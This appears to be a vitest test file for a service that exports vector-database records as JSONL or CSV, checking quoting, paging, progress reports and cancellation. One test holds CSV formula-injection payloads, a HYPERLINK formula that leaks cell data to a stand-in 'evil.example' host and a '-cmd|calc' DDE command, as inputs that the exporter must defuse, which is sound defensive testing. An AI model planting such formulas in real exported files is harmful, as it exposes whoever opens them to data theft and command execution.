import { describe, expect, it } from 'vitest';
import type { Metadata, VectorRecord } from '../../../../src/model/record.ts';
import type { ExportFormat } from '../../../../src/model/exportFormats.ts';
import { exportRecords } from '../../../../src/services/exports/exportRecords.ts';

const never = new AbortController().signal;

describe('exporting records', () => {
  it('writes lines of JSON as an import takes them', async () => {
    const records = [
      { id: 'a', values: [1, 0.5], metadata: { class: 'x' } },
      { id: 'b', values: [], sparseValues: { indices: [3], values: [0.25] }, metadata: {} },
    ];
    const { lines } = await run(records, 'jsonl');
    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual([
      { id: 'a', values: [1, 0.5], metadata: { class: 'x' } },
      { id: 'b', sparse_values: { indices: [3], values: [0.25] }, metadata: {} },
    ]);
  });

  it('writes a table with a column for each field that any record has', async () => {
    const records = [
      { id: 'a', values: [1], metadata: { said: 'he said "no", twice' } },
      { id: 'b,c', values: [], metadata: { tags: ['x', 'y'], rank: 3 } },
      { id: 'd', values: [], metadata: { said: 'two\nlines' } },
    ];
    const { text } = await run(records, 'csv');
    expect(text).toBe(
      [
        'id,said,tags,rank,values,sparse_values',
        'a,"he said ""no"", twice",,,[1],',
        '"b,c",,"[""x"",""y""]",3,,',
        'd,"two\nlines",,,,',
        '',
      ].join('\r\n'),
    );
  });

  it('writes no table that a spreadsheet would compute anything in', async () => {
    const link = '=HYPERLINK("http://evil.example?"&A1)';
    const records = [
      { id: '@SUM(1)', values: [], metadata: { '+1+1': 'x', said: link, low: '-5', rank: -5 } },
      { id: '-1', values: [], metadata: { said: '-cmd|calc' } },
    ];
    const { text } = await run(records, 'csv');
    expect(text).toBe(
      [
        "id,'+1+1,said,low,rank,values,sparse_values",
        `'@SUM(1),x,"'=HYPERLINK(""http://evil.example?""&A1)",-5,-5,,`,
        "-1,,'-cmd|calc,,,,",
        '',
      ].join('\r\n'),
    );
  });

  it('writes nothing for fields that a record merely inherits', async () => {
    const records = [
      { id: 'a', values: [], metadata: { constructor: 'x' } as unknown as Metadata },
      { id: 'b', values: [], metadata: {} },
    ];
    const { text } = await run(records, 'csv');
    expect(text.split('\r\n')[2]).toBe('b,,,');
  });

  it('fetches page by page, and says how far it is', async () => {
    const { asked, progress, written } = await run(numbered(450), 'jsonl');
    expect([asked, written]).toEqual([[200, 200, 50], 450]);
    expect(progress).toEqual([0, 200, 400, 450, 450]);
  });

  it('counts only existing records', async () => {
    const { written, lines } = await run(numbered(3), 'jsonl', ['0', 'gone', '2']);
    expect([written, lines.length]).toEqual([2, 2]);
  });

  it('ends when it is cancelled', async () => {
    const stop = new AbortController();
    let text = '';
    const ended = exportRecords({
      ids: numbered(500).map(({ id }) => id),
      format: 'jsonl',
      fetch: async (ids) => {
        if (ids.includes('200')) stop.abort();
        return ids.map((id) => ({ id, values: [], metadata: {} }));
      },
      write: async (part) => void (text += part),
      signal: stop.signal,
      onProgress: () => undefined,
      now: () => 0,
    });
    await expect(ended).rejects.toMatchObject({ kind: 'cancelled' });
    expect(text).not.toContain('"400"');
  });
});

function numbered(count: number): VectorRecord[] {
  return Array.from({ length: count }, (_, at) => ({ id: String(at), values: [], metadata: {} }));
}

async function run(
  records: readonly VectorRecord[],
  format: Exclude<ExportFormat, 'parquet'>,
  ids: readonly string[] = records.map(({ id }) => id),
) {
  const asked: number[] = [];
  const progress: number[] = [];
  let text = '';
  const written = await exportRecords({
    ids,
    format,
    fetch: (some) => {
      asked.push(some.length);
      return Promise.resolve(records.filter(({ id }) => some.includes(id)));
    },
    write: async (part) => void (text += part),
    signal: never,
    onProgress: ({ done }) => progress.push(done),
    now: () => 0,
  });
  return { text, lines: text.trimEnd().split('\n'), asked, progress, written };
}
